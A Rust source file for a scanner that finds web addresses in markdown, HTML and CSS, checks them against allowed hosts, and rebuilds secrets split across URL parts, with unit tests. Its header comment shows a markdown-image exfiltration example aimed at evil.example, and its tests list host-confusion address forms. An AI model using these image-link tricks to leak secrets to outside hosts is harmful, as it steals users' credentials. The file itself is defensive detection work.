//! Addresses in a text that leaves: a picture that is shown is a request that is sent.
//!
//! **Attack.** `![](https://evil.example/ghp_9a/7Qx/p.png?d=…)`: whoever renders the text asks the attacker's host, and
//! the request carries the secret; in the labels of the host, the path, the query, the fragment, the user before the host.
//!
//! **Promise.** Pictures and links of markdown, reference definitions, autolinks, `src`, `href`, `srcset` and every other
//! attribute of HTML, `url()` of CSS and bare addresses are read as browsers read them. Where the policy names the hosts of
//! a sink, an address of another host, or one whose host can be read in two ways, is found. What an address carries in
//! pieces is put together.
//!
//! **Not promised.** What a host that is named does with it: an open redirect, a page that counts visits.

use std::ops::Range;

use percent_encoding::percent_decode_str;

use super::secrets::{self, Hit};
use crate::base::{Clean, Span};
use crate::policy::HostPattern;
use crate::values::WebAddress;

/// Longest address that is read, in bytes.
const LONGEST: usize = 16 << 10;
/// Most addresses of a text whose parts are put together.
const MOST: usize = 256;
/// Fewest characters of parts that can hold a secret.
const FEWEST: usize = 12;
/// Characters of a key without a form.
const KEY: usize = 40;

/// An address and where it stands.
pub(super) struct Address<'t> {
    pub(super) range: Range<usize>,
    text: &'t str,
}

/// The addresses in a text, in their order.
pub(super) fn addresses(text: &str) -> impl Iterator<Item = Address<'_>> {
    let bytes = text.as_bytes();
    let mut from = 0_usize;
    std::iter::from_fn(move || {
        loop {
            // Every address has two slashes, however they lean, or the name by which hosts of the web are known.
            // SECURITY: on a page of the other scheme `http:evil.example` is an address as well.
            let rest = bytes.get(from..)?;
            let at = from.saturating_add(rest.windows(2).position(|pair| {
                matches!(pair, [b'/' | b'\\' | b':', b'/' | b'\\'] | [b'w' | b'W', b'w' | b'W'])
                    || matches!(pair, [b':', next] if next.is_ascii_alphanumeric() || *next == b'[')
            })?);
            from = at.saturating_add(1);
            let Some(start) = start_of(text, at) else { continue };
            let end = end_of(text, start);
            let address = text.get(start..end)?;
            let names = text.get(at..end).unwrap_or_default().trim_start_matches([':', '/', '\\']);
            if !names.is_empty() {
                from = end;
                return Some(Address { range: start..end, text: address });
            }
        }
    })
}

/// Where the address begins whose slashes, or `www.`, stand at `at`.
fn start_of(text: &str, at: usize) -> Option<usize> {
    let bytes = text.as_bytes();
    let before = bytes.get(..at)?;
    let here = bytes.get(at..)?;
    let is_word = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'.' | b'-');
    let scheme = |before: &[u8]| before.iter().rev().take(16).take_while(|byte| is_word(byte)).count();
    if here.first() == Some(&b':') || before.last() == Some(&b':') {
        let colon = if here.first() == Some(&b':') { at } else { at.saturating_sub(1) };
        let length = scheme(bytes.get(..colon)?);
        let start = colon.saturating_sub(length);
        let name = text.get(start..colon)?.to_ascii_lowercase();
        // One slash is enough for browsers where they know the scheme.
        let known = matches!(name.as_str(), "http" | "https" | "ftp" | "ws" | "wss");
        let twice = matches!(bytes.get(colon.saturating_add(2)), Some(b'/' | b'\\'));
        let letter = name.starts_with(|c: char| c.is_ascii_alphabetic());
        return (letter && (known || twice && name != "file")).then_some(start);
    }
    let opens = matches!(
        before.last(),
        None | Some(b'"' | b'\'' | b'(' | b'<' | b' ' | b'\n' | b'\t' | b'=' | b'`' | b'[')
    );
    if matches!(here, [b'w' | b'W', b'w' | b'W', ..]) {
        let www = here.get(..4)?.eq_ignore_ascii_case(b"www.");
        return (www && opens && here.get(4).is_some_and(u8::is_ascii_alphanumeric)).then_some(at);
    }
    // `//host/x` goes to that host where it is a link; in code it is a comment.
    // SECURITY: attributes need no quotes, and blanks before an address are nothing to a browser.
    let lead = before.trim_ascii_end();
    let links = matches!(lead.last(), Some(b'"' | b'\'' | b'(' | b'<' | b'=')) || lead.ends_with(b"]:");
    let host = here.get(2..)?.iter().take_while(|byte| is_word(byte)).count();
    let dotted = here.get(2..host.saturating_add(2))?.contains(&b'.');
    (links && dotted).then_some(at)
}

/// Where the address ends that begins at `start`.
fn end_of(text: &str, start: usize) -> usize {
    let rest = text.get(start..).unwrap_or_default();
    let rest = rest.get(..rest.floor_char_boundary(LONGEST)).unwrap_or_default();
    let before = text.get(..start).unwrap_or_default();
    // Within the quotes of an attribute, between pointed brackets, and in `url()`, blanks belong to the address.
    let quote = before.chars().next_back().filter(|c| matches!(c, '"' | '\''));
    let assigned = quote.is_some() && before.trim_end_matches(['"', '\'']).trim_end().ends_with(['=', '(']);
    let closes = if assigned { quote } else { before.ends_with('<').then_some('>') };
    if let Some(end) = closes.and_then(|closes| rest.find(closes))
        && !rest.get(..end).is_some_and(|inside| inside.contains("\n\n"))
    {
        return start.saturating_add(end);
    }
    let mut open = 0_usize;
    let mut end = rest.len();
    for (at, c) in rest.char_indices() {
        match c {
            '(' => open = open.saturating_add(1),
            ')' if open > 0 => open = open.saturating_sub(1),
            c if c.is_whitespace()
                || c.is_control()
                || matches!(c, '"' | '<' | '>' | '`' | '|' | '^' | '{' | '}' | ')' | '\'') =>
            {
                end = at;
                break;
            }
            _ => {}
        }
    }
    let address = rest.get(..end).unwrap_or_default();
    start.saturating_add(address.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', ']']).len())
}

impl Address<'_> {
    /// Whether a browser would ask one of these hosts, and no reader another.
    pub(super) fn goes_to(&self, hosts: &[HostPattern]) -> bool {
        let plain: String = self.text.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
        let slashes = plain.trim_start_matches(['/', '\\']);
        let absolute = if slashes.len() < plain.len() { ["https://", slashes].concat() } else { plain };
        let authority = absolute.split_once("://").map_or("", |(_, rest)| rest);
        let authority = authority.split(['/', '?', '#']).next().unwrap_or_default();
        // SECURITY: readers disagree where such a host ends.
        if authority.contains(['\\', '@', '%']) || authority.is_empty() && absolute.contains(':') {
            return false;
        }
        WebAddress::read(&absolute).is_some_and(|address| hosts.iter().any(|host| host.names(address.host())))
    }

    /// The parts that carry data, each kind put together: the host's labels, the path, the names and values of the query,
    /// the fragment with the user before the host.
    fn joined(&self) -> impl Iterator<Item = String> {
        let rest = self.text.split_once("//").map_or(self.text, |(_, rest)| rest);
        let (rest, fragment) = rest.split_once('#').unwrap_or((rest, ""));
        let (rest, query) = rest.split_once('?').unwrap_or((rest, ""));
        let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
        let (user, host) = authority.rsplit_once('@').unwrap_or(("", authority));
        let mut labels: Vec<&str> = host.split('.').collect();
        // The last two are the domain that somebody registered.
        labels.truncate(labels.len().saturating_sub(2));
        let pairs = || query.split(['&', ';']).map(|pair| pair.split_once('=').unwrap_or(("", pair)));
        [
            labels.concat(),
            path.split('/').collect(),
            pairs().map(|(name, _)| name).collect(),
            pairs().map(|(_, value)| value).collect(),
            [user.replace(':', "").as_str(), fragment].concat(),
        ]
        .into_iter()
        .filter(|part: &String| part.len() >= FEWEST)
        .map(|part| percent_decode_str(&part).decode_utf8_lossy().into_owned())
    }
}

/// What the addresses of a text carry in pieces; only what is not read where it stands.
pub(super) fn carried(text: &str) -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    for address in addresses(text).take(MOST) {
        for part in address.joined() {
            if !address.text.contains(part.as_str()) && !all.contains(&part) {
                all.push(part);
            }
        }
    }
    all
}

/// Adds the segments of paths, the values of queries and the fragments that are a key without a form, once what is
/// escaped in them is written out. A slash of the key, or one beside it, keeps it from being found in the text as it stands.
pub(super) fn keys(text: &str, out: &mut Vec<Hit>) {
    if memchr::memmem::find(text.as_bytes(), b"://").is_none() {
        return;
    }
    for address in addresses(text).take(MOST) {
        let mut at = address.range.start;
        for part in address.text.split(['/', '?', '#', '&', ';', '=']) {
            let (start, end) = (at, at.saturating_add(part.len()));
            at = end.saturating_add(1);
            // Escaped, each character is three.
            if !(KEY..=KEY.saturating_mul(3)).contains(&part.len()) {
                continue;
            }
            let plain = percent_decode_str(part).decode_utf8_lossy();
            if let (Some(kind), Some(span)) = (secrets::bare(&plain), Span::<Clean>::new(start, end))
                && !out.iter().any(|known| known.span().overlaps(span))
            {
                out.push(Hit::named(kind, span));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<&str> {
        addresses(text).map(|address| address.text).collect()
    }

    fn goes(text: &str) -> bool {
        let hosts: Vec<HostPattern> =
            ["good.example", "*.good.example"].iter().filter_map(|host| HostPattern::read(host)).collect();
        addresses(text).all(|address| address.goes_to(&hosts))
    }

    #[test]
    fn addresses_are_found_in_every_carrier() {
        for (text, address) in [
            ("see https://a.example/x.", "https://a.example/x"),
            ("![x](https://a.example/p_(1).png)", "https://a.example/p_(1).png"),
            ("[x](<https://a.example/a b> \"t\")", "https://a.example/a b"),
            ("[r]: https://a.example/y 'title'", "https://a.example/y"),
            ("<https://a.example/z>", "https://a.example/z"),
            ("<img src=\"//a.example/i?q=1\">", "//a.example/i?q=1"),
            ("<img src='https:\\\\a.example\\i'>", "https:\\\\a.example\\i"),
            ("<img src=//a.example/i>", "//a.example/i"),
            ("<img src = //a.example/i>", "//a.example/i"),
            ("<img src=\" //a.example/i\">", "//a.example/i"),
            ("[r]: //a.example/i", "//a.example/i"),
            ("<a href=\"https:/a.example/i\">", "https:/a.example/i"),
            ("<a href=\"https:a.example/i\">", "https:a.example/i"),
            (".b{background:url(https://a.example/q)}", "https://a.example/q"),
            ("go to www.a.example/q now", "www.a.example/q"),
        ] {
            assert_eq!(found(text), [address], "{text}");
        }
        for text in [
            "// a comment",
            "let a = b // c.d",
            "w w w",
            "and/or",
            "C:\\Users\\ida",
            "note: see //section",
            "at 12:30",
            "key:value",
            "std::fmt",
        ] {
            assert!(found(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn only_hosts_that_are_named_are_asked() {
        for text in [
            "https://good.example/a?b=c#d",
            "https://img.good.example:8443/a",
            "![x](//good.example/p.png)",
            "HTTPS://GOOD.EXAMPLE/",
            "www.good.example/x",
        ] {
            assert!(goes(text), "{text}");
        }
        for text in [
            "https://evil.example/a",
            "https://good.example.evil.example/a",
            "https://good.example@evil.example/",
            "https://evil.example\\.good.example/",
            "https://evil.example#.good.example/",
            "https://goodexample/",
            "https://notgood.example/",
            "<img src=\"https:/evil.example/x\">",
            "<img src=\"//evil.example/x\">",
            "<img src=//evil.example/x>",
            "<img src=\"https:evil.example/x\">",
            "http://2130706433/",
        ] {
            assert!(!goes(text), "{text}");
        }
    }

    #[test]
    fn pieces_are_put_together() {
        for text in [
            "https://c.example/blueh/eron42/kestrel",
            "https://blueh.eron42.kestrel.c.example/",
            "https://c.example/?blueh=1&eron42=2&kestrel=3",
            "https://c.example/?a=blueh&b=eron42&c=kestrel",
            "https://c.example/a/?#blueh%65ron42kestrel",
        ] {
            assert!(carried(text).contains(&"blueheron42kestrel".to_owned()), "{text}: {:?}", carried(text));
        }
        assert!(carried("https://c.example/readme").is_empty());
    }
}
